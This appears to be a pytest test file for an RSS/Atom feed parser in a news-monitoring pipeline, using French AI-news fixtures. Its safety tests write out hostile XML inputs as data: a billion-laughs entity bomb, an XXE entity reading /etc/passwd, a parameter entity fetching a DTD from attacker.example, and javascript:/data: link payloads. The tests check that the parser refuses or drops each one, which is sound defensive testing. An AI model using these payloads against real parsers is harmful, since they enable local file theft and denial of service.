"""parse_feed: safety, cleaning, dates, identity, and every real feed of the evaluation folder."""

from __future__ import annotations

import os
import xml.parsers.expat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from monitor_pipeline.core.ingest.feeds import check_expat, clean_text, normalize_title, parse_date, parse_feed

pytestmark = pytest.mark.timeout(60)

NOW = datetime(2026, 11, 25, 12, 0, tzinfo=UTC)
RSS_HEADERS = {"Content-Type": "application/rss+xml; charset=utf-8"}


def rss(items: str, channel_extra: str = "", encoding: str = "utf-8") -> str:
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n<rss version="2.0"><channel>'
            f"<title>La Gazette de l'IA</title><link>https://gazette-ia.example/</link>"
            f"<language>fr-FR</language>{channel_extra}{items}</channel></rss>")


def item(title: str, link: str, guid: str | None = None, date: str | None = "Wed, 25 Nov 2026 09:15:00 +0100",
         description: str = "", author: str | None = None) -> str:
    parts = [f"<title>{title}</title>", f"<link>{link}</link>"]
    if guid is not None:
        parts.append(f"<guid>{guid}</guid>")
    if date is not None:
        parts.append(f"<pubDate>{date}</pubDate>")
    if description:
        parts.append(f"<description>{description}</description>")
    if author:
        parts.append(f"<author>{author}</author>")
    return "<item>" + "".join(parts) + "</item>"


def parse(text: str | bytes, headers=None, source_id: str = "gazette", **kwargs):
    body = text.encode("utf-8") if isinstance(text, str) else text
    return parse_feed(body, RSS_HEADERS if headers is None else headers, source_id, now=NOW, **kwargs)


# --------------------------------------------------------------------------- basics


def test_entries_are_cleaned_and_identified() -> None:
    feed = parse(rss(item(
        "Mistral AI l&#232;ve 1,7 milliard d&#8217;euros",
        "http://Gazette-IA.example/economie/mistral-leve-1-7-milliard/?utm_source=rss&amp;xtor=RSS-12",
        guid="gazette-4821",
        description="&lt;p&gt;La start-up parisienne &lt;b&gt;boucle&lt;/b&gt; un tour de table men\u00e9 "
                    "par ASML.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        author="redaction@gazette-ia.example (Claire Dubois)",
    )))
    assert feed.status == "ok" and feed.bozo is False and feed.error is None
    assert feed.language == "fr-fr" and feed.title == "La Gazette de l'IA"
    [entry] = feed.entries
    assert entry.source_id == "gazette"
    assert entry.title == "Mistral AI lève 1,7 milliard d’euros"
    assert entry.summary == "La start-up parisienne boucle un tour de table mené par ASML."
    assert entry.canonical_url == "https://gazette-ia.example/economie/mistral-leve-1-7-milliard"
    assert entry.url.startswith("http://Gazette-IA.example/")
    assert entry.guid == "gazette-4821"
    assert entry.author and "Claire Dubois" in entry.author
    assert entry.published_raw == "Wed, 25 Nov 2026 09:15:00 +0100"
    assert entry.published_at == datetime(2026, 11, 25, 8, 15, tzinfo=UTC)
    assert entry.published_in_future is False
    assert entry.title_key == "mistral ai leve 1 7 milliard d euros"
    assert len(entry.key) == 32


def test_atom_feed_with_relative_links_uses_base_url() -> None:
    atom = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title>Carnet numérique</title><id>urn:carnet</id><updated>2026-11-24T18:00:00+01:00</updated>
  <entry><title type="html">Les data centers fran&amp;ccedil;ais face &amp;agrave; l'IA</title>
    <link rel="alternate" href="/billets/data-centers-ia"/><id>urn:uuid:5c1e</id>
    <updated>2026-11-24T18:00:00+01:00</updated>
    <summary type="html">&lt;p&gt;Consommation &amp;eacute;lectrique en hausse de 30 %.&lt;/p&gt;</summary>
  </entry>
</feed>"""
    feed = parse(atom, {"content-type": "application/atom+xml"}, base_url="https://carnet.example/atom.xml")
    assert feed.status == "ok" and feed.language == "fr"
    [entry] = feed.entries
    assert entry.url == "https://carnet.example/billets/data-centers-ia"
    assert entry.title == "Les data centers français face à l'IA"
    assert entry.summary == "Consommation électrique en hausse de 30 %."
    assert entry.published_at == datetime(2026, 11, 24, 17, 0, tzinfo=UTC)


def test_double_escaped_titles_are_unescaped() -> None:
    feed = parse(rss(item("L&amp;#39;IA g&amp;eacute;n&amp;eacute;rative &amp;amp; l&amp;#39;emploi",
                          "https://gazette-ia.example/ia-emploi")))
    assert feed.entries[0].title == "L'IA générative & l'emploi"


def test_lengths_are_bounded() -> None:
    long_title = "Intelligence artificielle " * 100
    long_summary = "Le marché européen de l'IA progresse encore. " * 300
    feed = parse(rss(item(long_title, "https://gazette-ia.example/long", description=long_summary)))
    entry = feed.entries[0]
    assert len(entry.title) <= 1000 and entry.title.endswith("…")
    assert len(entry.summary) <= 5000 and entry.summary.endswith("…")


def test_unsafe_and_missing_links_are_dropped() -> None:
    items = "".join([
        item("Lien JavaScript", "javascript:alert(document.cookie)"),
        item("Lien data", "data:text/html;base64,PHNjcmlwdD4="),
        item("Lien FTP", "ftp://gazette-ia.example/fichier"),
        "<item><title>Sans lien</title><guid isPermaLink=\"false\">urn:x:1</guid></item>",
        item("Article valide", "https://gazette-ia.example/valide"),
        "<item><title>Lien dans le GUID</title><guid>https://gazette-ia.example/par-guid</guid></item>",
    ])
    feed = parse(rss(items))
    assert feed.status == "ok"
    assert [e.title for e in feed.entries] == ["Article valide", "Lien dans le GUID"]
    assert feed.entries[1].url == "https://gazette-ia.example/par-guid"
    assert feed.dropped_entries == 4
    assert "4 entries dropped" in feed.warning


# --------------------------------------------------------------------------- identity


def test_duplicate_guids_for_the_same_article_collapse() -> None:
    items = (item("Capgemini rachète une pépite de l'IA", "https://gazette-ia.example/capgemini", guid="g-1")
             + item("Capgemini rachète une pépite de l'IA (mis à jour)", "https://gazette-ia.example/capgemini",
                    guid="g-1"))
    feed = parse(rss(items))
    assert [e.title for e in feed.entries] == ["Capgemini rachète une pépite de l'IA"]
    assert feed.duplicate_entries == 1


def test_a_guid_reused_for_different_articles_does_not_merge_them() -> None:
    """Identity is the canonical URL: a CMS that stamps every item with one GUID loses nothing."""
    items = (item("Atos cède sa division", "https://gazette-ia.example/atos", guid="https://gazette-ia.example/")
             + item("OVHcloud ouvre un site", "https://gazette-ia.example/ovh", guid="https://gazette-ia.example/"))
    feed = parse(rss(items))
    assert len(feed.entries) == 2
    assert feed.entries[0].key != feed.entries[1].key


def test_a_guid_switching_from_http_to_https_keeps_its_identity() -> None:
    before = parse(rss("<item><title>Dassault Systèmes et l'IA</title>"
                       "<guid>http://gazette-ia.example/dassault-ia</guid></item>"))
    after = parse(rss("<item><title>Dassault Systèmes et l'IA</title>"
                      "<guid>https://gazette-ia.example/dassault-ia/</guid></item>"))
    assert before.entries[0].guid != after.entries[0].guid
    assert before.entries[0].key == after.entries[0].key
    assert before.entries[0].canonical_url == "https://gazette-ia.example/dassault-ia"


def test_the_same_article_in_two_feeds_has_one_identity() -> None:
    one = parse(rss(item("OpenAI ouvre un bureau à Paris", "https://www.journal-tech.example/openai-paris?xtor=RSS-1")),
                source_id="journal-tech")
    two = parse(rss(item("OpenAI s'installe à Paris", "http://journal-tech.example/openai-paris/?utm_medium=agregateur"
                                                        .replace("journal-tech", "www.journal-tech"))),
                source_id="agregateur")
    assert one.entries[0].source_id != two.entries[0].source_id
    assert one.entries[0].key == two.entries[0].key


def test_normalize_title() -> None:
    assert normalize_title("  L’IA : Mistral lève 600 M€ !  ") == "l ia mistral leve 600 m"
    assert normalize_title("ÉLAN  Décisif") == normalize_title("élan décisif")


# --------------------------------------------------------------------------- dates


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Wed, 25 Nov 2026 09:15:00 +0100", datetime(2026, 11, 25, 8, 15, tzinfo=UTC)),
        ("Wed, 25 Nov 2026 09:15:00 GMT", datetime(2026, 11, 25, 9, 15, tzinfo=UTC)),
        ("2026-11-25T09:15:00Z", datetime(2026, 11, 25, 9, 15, tzinfo=UTC)),
        ("2026-11-25T09:15:00+01:00", datetime(2026, 11, 25, 8, 15, tzinfo=UTC)),
        ("25 novembre 2026 14:30", datetime(2026, 11, 25, 13, 30, tzinfo=UTC)),
        ("mercredi 1er juillet 2026 à 9h05", datetime(2026, 7, 1, 7, 5, tzinfo=UTC)),
        ("3 févr. 2026", datetime(2026, 2, 2, 23, 0, tzinfo=UTC)),
        ("mar., 13 sept. 2022 16:41:30 +0000", datetime(2022, 9, 13, 16, 41, 30, tzinfo=UTC)),
        ("demain matin", None),
        ("31 février 2026", None),
    ],
)
def test_parse_date(raw: str, expected: datetime | None) -> None:
    assert parse_date(raw) == expected


def test_future_dates_are_flagged_and_cleared() -> None:
    items = (item("Annonce programmée", "https://gazette-ia.example/futur", date="Sat, 28 Nov 2026 08:00:00 +0000")
             + item("Fuseau en avance", "https://gazette-ia.example/presque", date="Wed, 25 Nov 2026 23:00:00 +0000")
             + item("Date illisible", "https://gazette-ia.example/illisible", date="bientôt"))
    future, near, unreadable = parse(rss(items)).entries
    assert future.published_at is None and future.published_in_future is True
    assert future.published_raw == "Sat, 28 Nov 2026 08:00:00 +0000"
    assert near.published_at is not None and near.published_in_future is False
    assert unreadable.published_raw == "bientôt" and unreadable.published_at is None
    assert unreadable.published_in_future is False


# --------------------------------------------------------------------------- safety


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://gazette-ia.example/lol</link></item></channel></rss>"""


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        "  \n" + BILLION_LAUGHS,  # malformed prolog: the byte-level fallback still refuses
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<rss version=\"2.0\"><channel><item><title>&xxe;</title><link>https://a.example/x</link></item></channel></rss>",
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>'
        "<rss version=\"2.0\"><channel></channel></rss>",
        '<?xml version="1.0" encoding="bogus-enc"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">]><rss/>',
    ],
    ids=["billion-laughs", "billion-laughs-bad-prolog", "external-entity", "parameter-entity", "unknown-encoding"],
)
def test_entity_declarations_are_refused(document: str) -> None:
    feed = parse(document)
    assert feed.status == "parse_error"
    assert feed.error == "entity declarations refused"
    assert feed.entries == []


def test_public_doctype_without_entities_is_fine() -> None:
    doc = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
           ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel><title>Vieux flux'
           "</title><item><title>Toujours là</title><link>https://vieux.example/a</link></item></channel></rss>")
    feed = parse(doc)
    assert feed.status == "ok" and len(feed.entries) == 1


def test_entity_text_inside_cdata_is_not_refused() -> None:
    desc = "<![CDATA[<p>Une faille XXE : <code><!ENTITY xxe SYSTEM \"file:///etc/passwd\"></code> corrigée.</p>]]>"
    feed = parse(rss(item("Faille XXE corrigée dans un outil d'IA", "https://gazette-ia.example/xxe",
                          description=desc)))
    assert feed.status == "ok"
    assert "faille XXE" in feed.entries[0].summary


def test_body_that_looks_like_a_path_is_never_opened() -> None:
    feed = parse_feed(b"/etc/passwd", {}, "x", now=NOW)
    assert feed.status == "parse_error" and feed.entries == []
    with pytest.raises(TypeError, match="bytes"):
        parse_feed("/etc/passwd", {}, "x")  # type: ignore[arg-type]


def test_check_expat(monkeypatch: pytest.MonkeyPatch) -> None:
    check_expat()  # this interpreter's expat is recent enough
    monkeypatch.setattr(xml.parsers.expat, "version_info", (2, 2, 10))
    with pytest.raises(RuntimeError, match="older than 2.4.1"):
        check_expat()


# --------------------------------------------------------------------------- charsets & malformed input


def test_latin1_body_declared_utf8_is_decoded() -> None:
    body = rss(item("Souveraineté numérique : l'État investit", "https://gazette-ia.example/etat")).encode("cp1252")
    feed = parse(body, {"content-type": "application/rss+xml; charset=utf-8"})
    assert feed.status == "ok" and feed.bozo is True
    assert feed.entries[0].title == "Souveraineté numérique : l'État investit"
    assert "windows-1252" in feed.warning


def test_utf8_body_declared_latin1_is_not_mojibake() -> None:
    body = rss(item("Pénurie de GPU : les éditeurs français s'adaptent", "https://gazette-ia.example/gpu"),
               encoding="iso-8859-1").encode("utf-8")
    feed = parse(body, {"content-type": "application/rss+xml; charset=iso-8859-1"})
    assert feed.status == "ok"
    assert feed.entries[0].title == "Pénurie de GPU : les éditeurs français s'adaptent"
    assert "declared as iso-8859-1" in feed.warning


def test_bozo_feed_with_entries_is_kept() -> None:
    broken = rss(item("Un titre & une esperluette nue", "https://gazette-ia.example/bozo"))
    feed = parse(broken)
    assert feed.status == "ok" and feed.bozo is True
    assert feed.error is None and feed.warning
    assert feed.entries[0].title == "Un titre & une esperluette nue"


def test_valid_feed_without_items_is_empty() -> None:
    feed = parse(rss(""))
    assert feed.status == "empty" and feed.error is None and feed.entries == []


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (b"", "empty body"),
        (b"   \n", "empty body"),
        (b"<html><head><title>Accueil</title></head><body><p>Pas un flux</p></body></html>", None),
        (b"\x00\x01\x02 du binaire", None),
        (b'{"items": []}', None),
    ],
)
def test_non_feeds_are_parse_errors(body: bytes, error: str | None) -> None:
    feed = parse(body)
    assert feed.status == "parse_error"
    assert feed.error
    if error:
        assert feed.error == error
    assert "\n" not in feed.error and "Traceback" not in feed.error


def test_clean_text_strips_tags_scripts_and_controls() -> None:
    assert clean_text("<p>Un</p><p>deux</p><style>p{}</style>\x00trois <b>gras</b>", 100) == "Un deux trois gras"
    assert clean_text("a < b et c > d", 100) == "a < b et c > d"
    assert clean_text(None, 10) == ""


# --------------------------------------------------------------------------- real-world feeds


def _realworld_feeds() -> list[Path]:
    root = Path(os.environ.get("MONITOR_REALWORLD_DIR") or Path(__file__).resolve().parents[3] / "shared" / "realworld")
    folder = root / "feeds"
    return sorted(folder.glob("*.xml")) if folder.is_dir() else []


@pytest.mark.skipif(not _realworld_feeds(), reason="real-world evaluation feeds not available")
@pytest.mark.parametrize("path", _realworld_feeds(), ids=lambda p: p.name)
def test_real_feeds_parse_into_entries(path: Path) -> None:
    feed = parse_feed(path.read_bytes(), {}, path.stem, now=NOW)
    assert feed.status == "ok", feed.error
    assert feed.error is None
    assert feed.entries
    for entry in feed.entries:
        assert entry.canonical_url.startswith("https://")
        assert len(entry.title) <= 1000 and len(entry.summary) <= 5000
        assert entry.published_at is None or entry.published_at.tzinfo is not None
    if path.name == "flus_vimeo_sud_web.rss.xml":
        assert feed.bozo is True and feed.language == "en-us"
